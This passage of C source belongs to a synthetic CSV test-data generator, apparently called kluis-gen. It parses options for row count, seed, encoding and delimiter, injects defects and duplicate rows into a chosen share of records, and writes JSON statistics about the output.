	memset(op, 0, sizeof *op);
	op->seed = 1;
	op->delim = ';';
	op->headers = 1;
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i], *v = NULL;
		const char *eq = strchr(a, '=');
		char name[32];
		size_t n = eq ? (size_t)(eq - a) : strlen(a);
		bool flag;

		if (strcmp(a, "-h") == 0 || strcmp(a, "--help") == 0) {
			printf("kluis-gen --rows N [--seed S] [--dirty PERCENT] "
			       "[--encoding utf-8|utf-8-bom|cp1252]\n"
			       "          [--delimiter ';'|','] [--crlf] "
			       "[--headers 1|2] [--nfd] [--out FILE]\n"
			       "          [--stats FILE] [--check PROTOCOL]\n"
			       "See docs/generator.md.\n");
			exit(0);
		}
		if (n >= sizeof name || strncmp(a, "--", 2) != 0)
			usage_error("unknown argument", a);
		memcpy(name, a, n);
		name[n] = '\0';
		flag = strcmp(name, "--crlf") == 0 || strcmp(name, "--nfd") == 0;
		if (!flag && !known_option(name))
			usage_error("unknown option", name);
		if (flag) {
			if (eq)
				usage_error("takes no value", name);
		} else {
			if (eq)
				v = eq + 1;
			else if (i + 1 < argc)
				v = argv[++i];
			else
				usage_error("missing value", name);
		}
		if (strcmp(name, "--rows") == 0) {
			op->rows = parse_u64(name, v);
			op->rows_set = true;
		} else if (strcmp(name, "--seed") == 0) {
			op->seed = parse_u64(name, v);
		} else if (strcmp(name, "--dirty") == 0) {
			char *end;
			errno = 0;
			op->dirty = strtod(v, &end);
			if (errno || *end || end == v || !isfinite(op->dirty) ||
			    op->dirty < 0 || op->dirty > 100)
				usage_error("--dirty wants a percentage 0..100",
					    v);
			op->dirty_ppm = (uint32_t)(op->dirty * 10000 + 0.5);
		} else if (strcmp(name, "--encoding") == 0) {
			if (strcmp(v, "utf-8") == 0 || strcmp(v, "utf8") == 0)
				op->enc = ENC_UTF8;
			else if (strcmp(v, "utf-8-bom") == 0)
				op->enc = ENC_UTF8_BOM;
			else if (strcmp(v, "cp1252") == 0 ||
				 strcmp(v, "windows-1252") == 0)
				op->enc = ENC_CP1252;
			else
				usage_error("unknown encoding", v);
		} else if (strcmp(name, "--delimiter") == 0) {
			if (strcmp(v, ";") != 0 && strcmp(v, ",") != 0)
				usage_error("the delimiter is ';' or ','", v);
			op->delim = v[0];
		} else if (strcmp(name, "--headers") == 0) {
			if (strcmp(v, "1") != 0 && strcmp(v, "2") != 0)
				usage_error("header set 1 or 2", v);
			op->headers = v[0] - '0';
		} else if (strcmp(name, "--out") == 0) {
			op->out = v;
		} else if (strcmp(name, "--stats") == 0) {
			op->stats = v;
		} else if (strcmp(name, "--check") == 0) {
			op->check = v;
		} else if (strcmp(name, "--crlf") == 0) {
			op->crlf = true;
		} else if (strcmp(name, "--nfd") == 0) {
			op->nfd = true;
		} else {
			usage_error("unknown option", name);
		}
	}
	if (!op->rows_set)
		usage_error("--rows is required", NULL);
}

/* Every vocabulary string is UTF-8 and representable in Windows-1252. */
static void check_vocabulary(void)
{
	static const struct {
		const char *const *v;
		size_t n;
	} lists[] = {
#define L(x) { x, ARRAY_LEN(x) }
		L(FAMILY), L(GIVEN), L(GIVEN_ACCENT), L(STREET), L(ORG_BASE),
		L(ORG_ACCENT), L(OPMERKING), L(OPMERKING_JUNK), L(NAAM_JUNK),
		L(GEMEENTE_JUNK), L(BAD_TYPE), L(BAD_STATUUT), L(BAD_TRAP),
		L(BAD_RV), L(BAD_IKT), L(BAD_DATES), L(OLD_DATES),
		L(BAD_CAPS), L(FORMULAS),
#undef L
	};
	struct out o = { 0 };

	o.cap = 4096;
	o.buf = xrealloc(NULL, o.cap);
	o.enc = ENC_CP1252;
	o.delim = ';';
	out_classes(&o);
	for (size_t l = 0; l < ARRAY_LEN(lists); l++)
		for (size_t i = 0; i < lists[l].n; i++) {
			o.len = 0;
			put_field(&o, (const uint8_t *)lists[l].v[i],
				  strlen(lists[l].v[i]), false);
		}
	for (size_t i = 0; i < ARRAY_LEN(GEMEENTE); i++) {
		o.len = 0;
		put_field(&o, (const uint8_t *)GEMEENTE[i].name,
			  strlen(GEMEENTE[i].name), false);
	}
	for (size_t t = 0; t < ARRAY_LEN(TABS); t++)
		for (unsigned i = 0; i < TABS[t]->n; i++) {
			o.len = 0;
			put_field(&o, (const uint8_t *)TABS[t]->e[i].s,
				  strlen(TABS[t]->e[i].s), false);
		}
	for (int j = 0; j < NCOL; j++) {
		o.len = 0;
		put_field(&o, (const uint8_t *)HEADERS2[j].name,
			  strlen(HEADERS2[j].name), false);
	}
	free(o.buf);
}

static void write_stats(const struct options *op, const uint64_t *kinds,
			uint64_t rows, uint64_t orgs, uint64_t orgs_multi,
			uint64_t clean, uint64_t clean_selected,
			uint64_t clean_active, uint64_t bytes)
{
	static const char *const ENC[] = { "utf-8", "utf-8-bom", "cp1252" };
	json_t *root = json_object(), *def = json_object();
	uint64_t dirty = 0;
	char delim[2] = { op->delim, '\0' };

	if (!root || !def)
		die("out of memory", NULL);
	for (int k = D_NONE + 1; k < N_DEFECT; k++) {
		dirty += kinds[k];
		json_object_set_new(def, DEFECT_NAME[k],
				    json_integer((json_int_t)kinds[k]));
	}
	json_object_set_new(root, "generator", json_string("kluis-gen"));
	json_object_set_new(root, "seed", json_integer((json_int_t)op->seed));
	json_object_set_new(root, "rows", json_integer((json_int_t)rows));
	json_object_set_new(root, "bytes", json_integer((json_int_t)bytes));
	json_object_set_new(root, "encoding", json_string(ENC[op->enc]));
	json_object_set_new(root, "delimiter", json_string(delim));
	json_object_set_new(root, "crlf", json_boolean(op->crlf));
	json_object_set_new(root, "headers", json_integer(op->headers));
	json_object_set_new(root, "nfd", json_boolean(op->nfd));
	json_object_set_new(root, "dirty_percent", json_real(op->dirty));
	json_object_set_new(root, "dirty_rows", json_integer((json_int_t)dirty));
	json_object_set_new(root, "defects", def);
	json_object_set_new(root, "clean_rows", json_integer((json_int_t)clean));
	json_object_set_new(root, "clean_rows_selected",
			    json_integer((json_int_t)clean_selected));
	json_object_set_new(root, "clean_rows_active",
			    json_integer((json_int_t)clean_active));
	json_object_set_new(root, "organisers", json_integer((json_int_t)orgs));
	json_object_set_new(root, "organisers_with_several_rows",
			    json_integer((json_int_t)orgs_multi));
	if (json_dump_file(root, op->stats, JSON_INDENT(2)) != 0)
		die(op->stats, "cannot write the statistics");
	json_decref(root);
}

int main(int argc, char **argv)
{
	struct options op;
	struct out o = { 0 };
	struct gen *g;
	struct checker ck = { 0 };
	uint64_t kinds[N_DEFECT] = { 0 };
	uint64_t written = 0, orgs = 0, orgs_multi = 0, clean = 0;
	uint64_t clean_selected = 0, clean_active = 0;

	parse_options(argc, argv, &op);
	dates_init();
	digits_init();
	nfd_init();
	for (size_t t = 0; t < ARRAY_LEN(TABS); t++)
		spell_init(TABS[t]);
	check_vocabulary();
	if (op.check)
		check_open(&ck, op.check, op.nfd && op.enc != ENC_CP1252);

	g = calloc(1, sizeof *g);
	if (!g)
		die("out of memory", NULL);
	rng_seed(&g->rng, op.seed, 1);
	rng_seed(&g->drng, op.seed, 2);
	g->end_day = day_of(2024, 12, 31);

	o.fd = 1;
	o.path = "standard output";
	if (op.out) {
		o.fd = open(op.out, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC,
			    0644);
		if (o.fd < 0)
			die(op.out, strerror(errno));
		o.path = op.out;
	}
	o.cap = OUT_BLOCK;
	o.buf = xrealloc(NULL, o.cap);
	o.delim = op.delim;
	o.crlf = op.crlf;
	o.enc = op.enc;
	o.nfd_all = op.nfd && op.enc != ENC_CP1252;
	o.hdr = op.headers == 2 ? HEADERS2 : HEADERS1;
	out_classes(&o);
	write_header(&o);

	while (written < op.rows) {
		size_t n = op.rows - written < WINDOW ? (size_t)(op.rows - written) :
							WINDOW;
		gen_window(g, n);
		for (size_t i = 0; i < n; i++) {
			/* made even when a duplicate replaces it, so that
			 * the other rows do not depend on --dirty */
			struct row *w = slot_row(g, i);
			struct row before;
			enum defect d = D_NONE;

			if (op.dirty_ppm &&
			    below(&g->drng, 1000000) < op.dirty_ppm) {
				d = (enum defect)(1 + below(&g->drng,
							    N_DEFECT - 1));
				/* nothing to repeat before the first row */
				while (d == D_DUPLICATE && !o.have_last)
					d = (enum defect)(1 + below(
						&g->drng, N_DEFECT - 1));
			}
			written++;
			kinds[d]++;
			if (d == D_DUPLICATE) {
				/* this slot repeats the row before; its own
				 * row is left out */
				write_duplicate(&o);
				continue;
			}
			if (op.check)
				before = *w;
			if (d != D_NONE)
				apply_defect(g, w, d);
			if (op.check) {
				check_clean(&ck, &before, g->a.p, written);
				if (d != D_NONE)
					check_dirty(&ck, w, &before, g->a.p,
						    written);
				ck.rows++;
			}
			if (d == D_NONE) {
				clean++;
				clean_selected += selected(w);
				clean_active += w->stop == NO_DATE;
			}
			write_row(&o, w, g->a.p);
			g->org_rows[w->org]++;
		}
		for (size_t k = 0; k < g->n_orgs; k++) {
			orgs += g->org_rows[k] > 0;
			orgs_multi += g->org_rows[k] > 1;
		}
	}
	out_flush(&o);
	if (op.out && close(o.fd) != 0)
		die(op.out, strerror(errno));
	if (op.stats)
		write_stats(&op, kinds, written, orgs, orgs_multi, clean,
			    clean_selected, clean_active, o.bytes);
	free(o.buf);
	free(o.prev);
	free(g->a.p);
	free(g);
	for (size_t t = 0; t < ARRAY_LEN(TABS); t++)
		spell_free(TABS[t]);
	if (op.check) {
		uint64_t failures = ck.failures;
		fprintf(stderr,
			"kluis-gen: check: %" PRIu64 " records against %s: "
			"%" PRIu64 " problems\n",
			ck.rows, op.check, failures);
		check_close(&ck);
		return failures ? 1 : 0;
	}
	return 0;
}
